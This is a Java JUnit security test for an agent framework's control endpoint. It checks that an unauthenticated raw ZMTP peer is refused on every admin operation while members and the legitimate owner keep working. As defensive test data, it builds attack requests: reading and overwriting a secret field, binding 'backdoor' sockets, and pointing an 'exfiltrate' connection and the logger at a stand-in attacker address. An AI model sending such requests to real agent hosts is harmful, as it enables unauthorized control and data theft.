package io.zeroagents.runtime.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.protobuf.ByteString;
import com.google.protobuf.InvalidProtocolBufferException;
import io.zeroagents.AgentException;
import io.zeroagents.AgentOptions;
import io.zeroagents.BaseAgent;
import io.zeroagents.Pattern;
import io.zeroagents.Proxy;
import io.zeroagents.RemoteAgentException;
import io.zeroagents.nameserver.NameServerClient;
import io.zeroagents.nameserver.protocol.AddressEntry;
import io.zeroagents.runtime.internal.control.Bind;
import io.zeroagents.runtime.internal.control.Call;
import io.zeroagents.runtime.internal.control.CloseAll;
import io.zeroagents.runtime.internal.control.Connect;
import io.zeroagents.runtime.internal.control.ControlRequest;
import io.zeroagents.runtime.internal.control.ControlResponse;
import io.zeroagents.runtime.internal.control.Each;
import io.zeroagents.runtime.internal.control.ErrorCode;
import io.zeroagents.runtime.internal.control.Execute;
import io.zeroagents.runtime.internal.control.GetAttr;
import io.zeroagents.runtime.internal.control.Kill;
import io.zeroagents.runtime.internal.control.Mode;
import io.zeroagents.runtime.internal.control.NamedCode;
import io.zeroagents.runtime.internal.control.Payload;
import io.zeroagents.runtime.internal.control.Ping;
import io.zeroagents.runtime.internal.control.SetAttr;
import io.zeroagents.runtime.internal.control.SetLogger;
import io.zeroagents.runtime.internal.control.SetMethods;
import io.zeroagents.runtime.internal.control.Shutdown;
import io.zeroagents.runtime.internal.control.Sockets;
import io.zeroagents.runtime.internal.control.Stop;
import io.zeroagents.testsupport.Await;
import io.zeroagents.testsupport.RawZmtpPeer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * A real agent host with default settings against someone who reaches its control endpoint (the
 * address any name-server lookup gives) with a raw ZMTP peer and the control protocol's own
 * messages, but without the host's admin token: every admin operation is refused FORBIDDEN, naming
 * the operation, the agent and how to become an admin, and changes nothing; what members may do
 * still works, without the stack traces and method lists that only admins see; and the agent goes
 * on serving a legitimate proxy, which holds the token, can do everything and sees them.
 */
@Timeout(60)
class ControlEndpointAttackTest {
    private static final Duration WAIT = Duration.ofSeconds(10);
    private static final String SECRET = "vault-secret-4711";
    private static final AtomicLong IDS = new AtomicLong(1);
    /** Where the host writes its admin token, which the refusals point to. */
    private static final Path TOKENS = Path.of(System.getProperty("user.home"), ".zeroagents", "hosts");

    /** An agent with a secret in a private field, a method of its own and one that fails. */
    public static final class Vault extends BaseAgent {
        private String token = SECRET;

        /**
         * What members may call.
         *
         * @param who whom to greet
         * @return the greeting
         */
        public String greet(String who) {
            return "hello " + who;
        }

        /**
         * A method that throws, for the stack trace it leaves.
         *
         * @return never
         */
        public String fail() {
            throw new IllegalStateException("failure on purpose");
        }

        @Override
        public String toString() {
            return "Vault[" + token.length() + "]";
        }
    }

    private final TestRuntime runtime = new TestRuntime();

    @AfterEach
    void close() {
        runtime.close();
    }

    private static ControlRequest.Builder request() {
        return ControlRequest.newBuilder().setAgent("Vault");
    }

    private static ControlResponse send(RawZmtpPeer attacker, ControlRequest.Builder request)
            throws InvalidProtocolBufferException {
        long id = IDS.incrementAndGet();
        attacker.sendMessage(request.setVersion(ControlEndpoint.VERSION).setRequestId(id).build().toByteArray());
        while (true) {
            byte[] answer = attacker.receive();
            assertNotNull(answer, "the control endpoint did not answer " + request.getOperationCase());
            ControlResponse response = ControlResponse.parseFrom(answer);
            if (response.getRequestId() == id) {
                return response;
            }
        }
    }

    private static void assertForbidden(String operation, ControlResponse answer) {
        assertFalse(answer.getOk(), () -> operation + " was carried out for a stranger: " + answer);
        assertEquals(ErrorCode.FORBIDDEN, answer.getError(), () -> operation + ": " + answer);
        for (String named : new String[] {"'" + operation + "'", "'Vault'", "admin", TOKENS.toString()}) {
            assertTrue(answer.getErrorMessage().contains(named),
                    () -> "the refusal of " + operation + " does not name " + named + ": " + answer.getErrorMessage());
        }
        assertEquals("", answer.getRemoteStack(), () -> operation + ": a stranger got a stack trace");
    }

    private static Payload code() {
        // Whatever the code would be: a stranger must not get as far as having it decoded.
        return Payload.newBuilder().setCodec("java").setData(ByteString.copyFrom(new byte[] {(byte) 0xAC, (byte) 0xED}))
                .build();
    }

    private static AddressEntry attackerAddress() {
        return AddressEntry.newBuilder().setEndpoint("tcp://203.0.113.66:6666").setPattern("PUSH").setCodec("string")
                .build();
    }

    @Test
    void everyAdminOperation_fromAStranger_isRefused_andTheAgentServesItsLegitimateProxyAfterwards() throws Exception {
        Proxy local = runtime.agent("Vault", AgentOptions.of(Vault.class));
        AgentCore core = runtime.core("Vault");
        String endpoint;
        try (NameServerClient names = new NameServerClient(runtime.nameServer.address(), WAIT)) {
            endpoint = names.lookup("Vault").getControlEndpoint();
        }
        List<Map.Entry<String, ControlRequest.Builder>> attacks = List.of(
                Map.entry("get_attr", request().setGetAttr(GetAttr.newBuilder().setName("token"))),
                Map.entry("set_attr", request().setSetAttr(SetAttr.newBuilder().setName("token").setValue(
                        Payload.newBuilder().setCodec("string").setData(ByteString.copyFromUtf8("owned"))))),
                Map.entry("bind", request().setBind(Bind.newBuilder().setPattern("PULL").setAlias("backdoor")
                        .setAddress("127.0.0.1"))),
                Map.entry("bind", request().setBind(Bind.newBuilder().setPattern("PULL").setAlias("everywhere")
                        .setAddress("0.0.0.0"))),
                Map.entry("connect", request().setConnect(Connect.newBuilder().setAlias("exfiltrate")
                        .setAddress(attackerAddress()))),
                Map.entry("set_logger", request().setSetLogger(SetLogger.newBuilder().setAddress(attackerAddress()))),
                Map.entry("set_methods", request().setSetMethods(SetMethods.newBuilder().addMethods(
                        NamedCode.newBuilder().setName("greet").setCode(code())))),
                Map.entry("execute", request().setExecute(Execute.newBuilder().setKind(Execute.Kind.FUNCTION)
                        .setCode(code()))),
                Map.entry("each", request().setEach(Each.newBuilder().setPeriodNanos(1_000_000).setMethod("fail"))),
                Map.entry("close_all", request().setCloseAll(CloseAll.getDefaultInstance())),
                Map.entry("stop", request().setStop(Stop.getDefaultInstance())),
                Map.entry("shutdown", request().setShutdown(Shutdown.getDefaultInstance())),
                Map.entry("kill", request().setKill(Kill.getDefaultInstance())));

        try (RawZmtpPeer attacker = RawZmtpPeer.connect(endpoint, "DEALER")) {
            for (Map.Entry<String, ControlRequest.Builder> attack : attacks) {
                assertForbidden(attack.getKey(), send(attacker, attack.getValue()));
                assertTrue(core.alive(), () -> attack.getKey() + " ended the agent");
            }
            // One-way requests are refused all the same: the answer comes before anything runs.
            assertForbidden("kill", send(attacker, request().setMode(Mode.ONEWAY).setKill(Kill.getDefaultInstance())));
            assertForbidden("set_attr", send(attacker, request().setMode(Mode.UNSAFE).setSetAttr(SetAttr.newBuilder()
                    .setName("token").setValue(Payload.newBuilder().setCodec("string")
                            .setData(ByteString.copyFromUtf8("owned"))))));
            // The agent's own method is a member's to call; the framework's methods are not.
            ControlResponse greeted = send(attacker, request().setCall(Call.newBuilder().setMethod("greet")
                    .addArgs(Payload.newBuilder().setCodec("string").setData(ByteString.copyFromUtf8("Mallory")))));
            assertTrue(greeted.getOk(), greeted.toString());
            assertEquals("hello Mallory", greeted.getValue().getData().toString(StandardCharsets.UTF_8));
            for (String framework : new String[] {"shutdown", "stop", "closeAll", "stopAllTimers", "toString", "name"}) {
                ControlResponse answer = send(attacker, request().setCall(Call.newBuilder().setMethod(framework)));
                assertFalse(answer.getOk(), () -> framework + "() ran for a stranger: " + answer);
                assertEquals(ErrorCode.FORBIDDEN, answer.getError(), () -> framework + ": " + answer);
                assertTrue(answer.getErrorMessage().contains("'" + framework + "'"), answer.getErrorMessage());
            }
            assertTrue(send(attacker, request().setPing(Ping.getDefaultInstance())).getOk(), "a member pings");
            assertTrue(send(attacker, request().setSockets(Sockets.getDefaultInstance())).getSockets()
                    .getAddressesList().isEmpty(), "no socket was bound or connected");

            // Members learn what failed, not the agent's code: no stack, no list of methods.
            ControlResponse failed = send(attacker, request().setCall(Call.newBuilder().setMethod("fail")));
            assertEquals(ErrorCode.REMOTE_FAILURE, failed.getError(), failed.toString());
            assertTrue(failed.getErrorMessage().contains("failure on purpose"), failed.getErrorMessage());
            assertEquals("", failed.getRemoteStack());
            ControlResponse missing = send(attacker, request().setCall(Call.newBuilder().setMethod("nope")));
            assertEquals(ErrorCode.AGENT_ERROR, missing.getError(), missing.toString());
            assertTrue(missing.getErrorMessage().contains("'nope'"), missing.getErrorMessage());
            assertFalse(missing.getErrorMessage().contains("greet"), "a stranger got the agent's methods: "
                    + missing.getErrorMessage());
            assertEquals("", missing.getRemoteStack());
        }

        assertEquals(SECRET, local.getAttr("token"), "the secret was overwritten");
        assertTrue(core.alive() && local.isRunning(), "the agent was stopped");
        try (ControlClient client = runtime.controlClient(endpoint)) {
            Proxy legitimate = new RemoteProxy("Vault", client, Mode.SAFE, runtime.codecs, WAIT);
            assertEquals("pong", legitimate.ping());
            assertEquals(SECRET, legitimate.getAttr("token"), "the owner's proxy reads private fields");
            legitimate.setAttr("token", "rotated");
            assertEquals("rotated", local.getAttr("token"));
            assertTrue(legitimate.bind(Pattern.PULL, "in").endpoint().startsWith("tcp://127.0.0.1:"));
            RemoteAgentException failure = assertThrows(RemoteAgentException.class, () -> legitimate.call("fail"));
            assertTrue(failure.getCause().getMessage().contains("failure on purpose")
                    && failure.getCause().getMessage().contains("at "), "the owner sees the stack: " + failure.getCause());
            AgentException missing = assertThrows(AgentException.class, () -> legitimate.call("nope"));
            assertTrue(missing.getMessage().contains("greet"), "the owner sees the methods: " + missing.getMessage());
            assertInstanceOf(String.class, legitimate.call("toString"), "the owner calls the framework's methods");
            legitimate.shutdown();
            Await.until(WAIT, () -> !core.alive(), "the owner's shutdown to stop the agent");
        }
    }
}
